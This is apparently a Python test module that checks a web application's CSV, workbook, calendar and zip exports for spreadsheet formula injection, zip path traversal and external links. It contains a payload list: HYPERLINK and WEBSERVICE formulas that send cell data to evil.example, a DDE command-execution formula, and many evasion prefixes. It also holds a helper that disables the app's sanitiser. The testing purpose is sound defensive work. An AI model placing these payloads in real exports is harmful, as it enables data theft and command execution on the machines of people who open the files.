"""Files that are taken along: tables in which no cell is a program, and what else a zip holds.

A cell of a CSV file is a program where it begins, after quotes and blanks, with one of `= + - @`, or with a tab or a
line end; a cell of a workbook, where it is marked as a formula.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from html import unescape
from typing import Any
from unittest import mock

from httpx2 import Response
from proofs.answers import at, best_seen_by
from proofs.furnished import NOBODY, Furnished
from proofs.reflected import SAME
from proofs.windows import Shown
from xlsxwriter.worksheet import Worksheet

from app.kit import tables
from app.main import ROUTERS

RUN = "parent.ran(0)"
_BEGINNINGS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    '"=',
    "'=",
    "\u00a0=",
    "\u200b=",
    "＝",
    "＋",
    "－",
    "＠",
    ";=",
    "x;=",
)
_PROGRAMS = (
    '{begin}HYPERLINK("https://evil.example/?"&A1,"Open")',
    "{begin}cmd|' /C calc'!A0",
    '{begin}WEBSERVICE("https://evil.example/")<script>parent.ran(0)</script>',
)
FORMULAS = tuple(program.format(begin=begin) for begin in _BEGINNINGS for program in _PROGRAMS)

BLANKS = " \u00a0\u200b\ufeff\"'\u2018\u2019\u201c\u201d"
STARTS = set("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
NUMBER = re.compile(r"[-+]?\d[\d.]*")
TABLES = (".csv", ".xlsx", ".zip", ".ics")
IN_A_WORKBOOK = (b"<f>", b"<f ", b"<hyperlink", b"externalReference", b"ddeLink", b"oleLink", b't="e"', b"vbaProject")
TYPED_TABLES = ("csv", "txt", "md", "json", "gift", "xml")


@dataclass(slots=True)
class Taken:
    """What was found in the files of a house."""

    tables: int = 0
    cells: int = 0
    workbooks: int = 0
    wrong: list[str] = field(default_factory=list)
    shown: list[Shown] = field(default_factory=list)  # what is opened in a browser besides
    papers: list[tuple[str, bytes]] = field(default_factory=list)  # PDFs, by where they were


def taken(house: Furnished) -> Taken:
    """Take every file along that the house gives, and look into it."""
    found = Taken()
    for name, answer in _files(house):
        if answer.status_code == 200:
            _look(name, answer.content, found)
        elif answer.status_code >= 500:
            found.wrong.append(f"{name}: {answer.status_code}")
    return found


def _files(house: Furnished) -> Iterator[tuple[str, Response]]:
    for pattern, method in _patterns():
        for path in at(house, pattern):
            who = "ada" if pattern.startswith("/author/evaluations") else best_seen_by(pattern)
            data = {"select": "all"} | _license(house) if method == "POST" else None
            yield path, house.ask(who, method, path, data=data, headers=SAME if data else {})
    for name in house.instructors:
        path = "/author/evaluations/instructor.csv"
        yield path, house.ask("ada", "GET", path, params={"instructor": name})
    yield "/account/privacy/export.zip", house.ask("ana", "POST", "/account/privacy/export", headers=SAME)
    answer = house.ask(NOBODY, "POST", "/verify/receipt.csv", data={"result": results(house)}, headers=SAME)
    yield "/verify/receipt.csv", answer


def _patterns() -> list[tuple[str, str]]:
    every = {(route.path, method) for router in ROUTERS for route in router.routes for method in route.methods}
    kept = {(path, method) for path, method in every if path.endswith((*TABLES, "/download")) or "/export/" in path}
    return sorted(kept - {("/verify/receipt.csv", "POST")})


def _license(house: Furnished) -> dict[str, str]:
    state, number = house.license
    return {"license_state": state, "license_number": number, "since": "2026-01-01", "until": "2026-12-31"}


def results(house: Furnished) -> list[str]:
    """Have a file and a number checked, as an officer does, and give what was signed of it."""
    files = [("files", (f"{house.payload}.pdf", b"%PDF-1.4 nothing"))]
    asked = {"numbers": "\n".join(house.places["number"])}
    answer = house.ask(NOBODY, "POST", "/verify", data=asked, files=files, headers=SAME)
    return [unescape(one) for one in re.findall(r'name="result" value="([^"]*)"', answer.text)]


def _look(name: str, content: bytes, found: Taken) -> None:
    kind = name.rpartition(".")[2].lower()
    if content.startswith(b"PK\x03\x04") and kind != "xlsx":
        look_into(name, content, found)
    elif kind == "csv":
        _table(name, content.decode("utf-8-sig"), found)
    elif kind == "xlsx":
        _workbook(name, content, found)
    elif kind == "ics":
        _calendar(name, content.decode(), found)
    elif kind == "html":
        found.shown.append(Shown(content.decode()))
    elif content.startswith(b"%PDF-"):
        found.papers.append((name, content))
    elif kind in TYPED_TABLES:
        found.shown.append(Shown(content.decode(errors="replace"), "text/plain"))


def look_into(name: str, content: bytes, found: Taken) -> None:
    with zipfile.ZipFile(io.BytesIO(content)) as packed:
        for part in packed.namelist():
            if part.startswith(("/", "\\")) or ".." in part.split("/") or ":" in part:
                found.wrong.append(f"{name}: would write to {part}")
            _look(f"{name}/{part}", packed.read(part), found)


def _table(name: str, text: str, found: Taken) -> None:
    found.tables += 1
    found.shown.append(Shown(text, "text/plain"))
    for line in csv.reader(io.StringIO(text, newline="")):
        found.cells += len(line)
        found.wrong += [f"{name}: {cell[:60]}" for cell in line if runs(cell)]


def runs(cell: str) -> bool:
    """Say whether a spreadsheet would take a cell for a program, with whichever separator it opens the file."""
    if NUMBER.fullmatch(cell):
        return False
    return cell[:1] in set("\t\r\n") or any(map(_begins_one, re.split(r"[;\t\r\n]", cell)))


def _begins_one(part: str) -> bool:
    """Say whether a text begins a program; behind an apostrophe every spreadsheet takes it for a text."""
    return not part.startswith("'") and part.lstrip(BLANKS)[:1] in STARTS and part.lstrip(BLANKS) != ""


def _workbook(name: str, content: bytes, found: Taken) -> None:
    found.workbooks += 1
    with zipfile.ZipFile(io.BytesIO(content)) as packed:
        for part in packed.namelist():
            raw = packed.read(part)
            found.wrong += [f"{name}/{part}: {mark.decode()}" for mark in IN_A_WORKBOOK if mark in raw]
            if part.endswith(".rels") and b'TargetMode="External"' in raw:
                found.wrong.append(f"{name}/{part}: leads elsewhere")


def _calendar(name: str, text: str, found: Taken) -> None:
    """See that no typed line of a calendar begins one of its own."""
    known = "BEGIN|END|VERSION|PRODID|UID|DTSTAMP|DTSTART|SUMMARY|DESCRIPTION|TRIGGER|ACTION:DISPLAY|TRANSP|X-"
    found.wrong += [
        f"{name}: {line[:60]}" for line in text.split("\r\n") if line and not re.match(rf" |(?:{known})", line)
    ]
    found.shown.append(Shown(text, "text/plain"))


# --- the protection switched off ---------------------------------------------------------------------------------


@contextmanager
def unguarded() -> Iterator[None]:
    """Let cells go out as they were typed: into CSV as they are, into workbooks as whatever they look like."""

    with (
        mock.patch.object(tables, "harmless", lambda cell: cell),
        mock.patch.object(tables, "_write", lambda sheet, at_, cell, _formats: _as_typed(sheet, at_, cell)),
    ):
        yield


def _as_typed(sheet: Worksheet, place: tuple[int, int], cell: Any) -> None:
    if isinstance(cell, str) and cell.startswith("="):
        sheet.write_formula(*place, cell)
    elif cell is not None:
        sheet.write_string(*place, str(cell))
